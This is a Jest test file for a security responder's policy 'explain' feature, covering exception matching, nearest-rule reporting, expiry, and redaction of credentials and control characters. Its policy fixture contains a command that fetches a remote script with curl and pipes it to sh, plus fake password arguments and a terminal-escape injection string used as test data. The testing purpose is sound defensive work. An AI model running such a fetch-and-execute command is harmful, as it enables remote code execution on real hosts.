// `plan --explain`: which exception or rule applied, and for a no-match the
// nearest one and the condition that failed; values quoted, args redacted.
import { describe, expect, it } from '@jest/globals';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { explainPlan, renderExplanation } from '../src/core/policy/explain.ts';
import { plan } from '../src/core/plan/plan.ts';
import { parsePolicy } from '../src/core/policy/policy.ts';
import { notificationV1 } from './support/fixtures.ts';

const NOW = new Date('2026-11-20T14:05:00Z');
const explain = (n: Record<string, any>, yaml: string, now = NOW) => {
  const policy = parsePolicy(yaml);
  const x = explainPlan(plan(decodeInput(n), policy, now), policy, now);
  return { x, text: renderExplanation(x, policy) };
};
const childOf = (n: Record<string, any>) => n.finding.processes.find((p: any) => p.pid === '48213');

const POLICY = `
exceptions:
  - name: curl-health
    reason: the health probe fetches a script (OPS-1)
    expires: 2026-12-01
    owner: payments-team
    match: {namespaces: [payments], child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}}
rules:
  - {name: dev-only, match: {clusters: ["dev-*"], namespaces: [payments], severities: [LOW]}, actions: [label-pod]}
  - {name: prod-high, match: {clusters: ["shop-prod-*"], severities: [HIGH]}, actions: [label-pod]}
  - {name: catch-all, actions: [isolate-pod]}
`;

describe('explainPlan', () => {
  it('names the exception that applied, and what the rules would do without it', () => {
    const { x, text } = explain(notificationV1(), POLICY);
    expect(x.verdict).toBe('excepted');
    expect(x.exceptions[0]).toMatchObject({ name: 'curl-health', state: 'matched', failed: 0, expires: '2026-12-01T00:00:00Z' });
    expect(x.rules.map((r) => `${r.name}:${r.state}`)).toEqual(['dev-only:not-matched', 'prod-high:not-matched', 'catch-all:matched']);
    expect(text).toContain('decision   respond · EXCEPTED by curl-health (expires 2026-12-01T00:00:00Z, owner "payments-team")');
    expect(text).toContain('  ✔ curl-health  applies (expires 2026-12-01T00:00:00Z)');
    expect(text).toContain('      ✔ namespaces: namespace "payments" matches "payments"');
    expect(text).toContain('not applied: the exception comes first');
    expect(x.muteRule?.filter).toMatch(/^category="Unexpected Child Shell" AND resource\.name=/);
    expect(text).toContain('suggested SCC mute rule (scc-responder never creates it)');
    expect(text).toContain(`  filter  ${x.muteRule!.filter}`);
  });

  it('for a no-match names the nearest rule and the condition that failed', () => {
    const yaml = POLICY.replace('  - {name: catch-all, actions: [isolate-pod]}\n', '');
    const n = structuredClone(notificationV1());
    childOf(n).args = ['/bin/sh', '-c', 'id'];
    const { x, text } = explain(n, yaml);
    expect(x.verdict).toBe('no-match');
    // dev-only fails two conditions, prod-high one.
    expect(x.nearestRule).toMatchObject({ name: 'prod-high', failed: 1 });
    expect(x.nearestRule!.conditions.filter((c) => !c.holds)).toEqual([{ field: 'severities', holds: false, detail: 'severity "CRITICAL" is not one of HIGH' }]);
    expect(text).toContain('  nearest rule: prod-high (1 failing: severities)');
    expect(text).toContain('      ✗ severities: severity "CRITICAL" is not one of HIGH');
    expect(x.nearestException).toMatchObject({ name: 'curl-health', failed: 1 });
    expect(text).toContain('      ✗ child.args: child command line "/bin/sh -c id" matches none of "/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"');
    expect(text).toContain('  nearest exception: curl-health (1 failing: child.args)');
    expect(x.muteRule).toBeNull();
  });

  it('on a tie of failing conditions, the rule with more holding is nearer, then the earlier one', () => {
    const rules = (a: string, b: string) => `rules: [{name: a, match: ${a}, actions: []}, {name: b, match: ${b}, actions: []}]`;
    expect(explain(notificationV1(), rules('{namespaces: [x]}', '{clusters: ["shop-*"], namespaces: [y]}')).x.nearestRule?.name).toBe('b');
    expect(explain(notificationV1(), rules('{namespaces: [x]}', '{namespaces: [y]}')).x.nearestRule?.name).toBe('a');
  });

  it('says an expired exception was not applied, and which rule was', () => {
    const { x, text } = explain(notificationV1(), POLICY, new Date('2026-12-02T00:00:00Z'));
    expect(x.verdict).toBe('rule');
    expect(x.exceptions[0]!.state).toBe('expired');
    expect(text).toContain('  ✗ curl-health  expired at 2026-12-01T00:00:00Z: not applied (its conditions hold)');
    expect(text).toContain('decision   respond · rule catch-all matched · dry-run');
    expect(text).toContain('exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
  });

  it('marks a later rule that also matches as shadowed', () => {
    const { x, text } = explain(notificationV1(), 'rules: [{name: a, actions: []}, {name: b, match: {namespaces: [payments]}, actions: []}]');
    expect(x.rules.map((r) => r.state)).toEqual(['matched', 'shadowed']);
    expect(text).toContain('  · b  also matches (an earlier rule wins)');
    expect(x.nearestRule).toBeNull();
  });

  it('says when a truncated command line is why an args condition failed', () => {
    const n = structuredClone(notificationV1());
    childOf(n).argumentsTruncated = true;
    const { text } = explain(n, POLICY);
    expect(text).toContain('(TRUNCATED by SCC: args conditions never match it)');
    expect(text).toContain('✗ child.args: child args cannot be matched: SCC truncated the args (argumentsTruncated), and an args condition never matches truncated args');
  });

  it('a protected namespace is said as such', () => {
    const n = structuredClone(notificationV1());
    n.finding.kubernetes.pods[0].ns = 'kube-system';
    const { x, text } = explain(n, 'rules: [{name: all, actions: [delete-pod]}]');
    expect(x.verdict).toBe('protected');
    expect(text).toContain('decision   respond · rule all matched, but the namespace is protected: report only');
  });

  it('an out-of-scope finding evaluates nothing', () => {
    const n = structuredClone(notificationV1());
    n.finding.state = 'INACTIVE';
    const { x, text } = explain(n, POLICY);
    expect(x).toMatchObject({ verdict: 'ignored', exceptions: [], rules: [] });
    expect(text).toContain('decision   ignore: state is "INACTIVE", not ACTIVE');
  });

  it('never prints a credential from the args, and escapes control characters from the finding', () => {
    const n = structuredClone(notificationV1());
    childOf(n).args = ['mysql', '-uroot', '-pExplainSecret01', '--password=ExplainSecret02', 'https://u:ExplainSecret03@db'];
    n.finding.kubernetes.pods[0].ns = 'pay\u001b[2Jments\u202e';
    const yaml = 'exceptions: [{name: e, reason: r, expires: 2027-01-01, match: {child: {argsContain: [ExplainSecret01], args: ["mysql *"]}}}]\nrules: [{name: r, match: {namespaces: [x]}, actions: []}]';
    const { text } = explain(n, yaml);
    expect(text).toContain('child command line "mysql -uroot -p<redacted> --password=<redacted> https://u:<redacted>@db"');
    // The policy's own pattern is the policy's; nothing the finding said is printed raw.
    expect(text.replaceAll('"ExplainSecret01"', '')).not.toMatch(/ExplainSecret0/);
    expect(text).not.toContain('\u001b');
    expect(text).not.toContain('\u202e');
    expect(text).toContain('namespace "pay\\u001b[2Jments\\u202e"');
  });
});
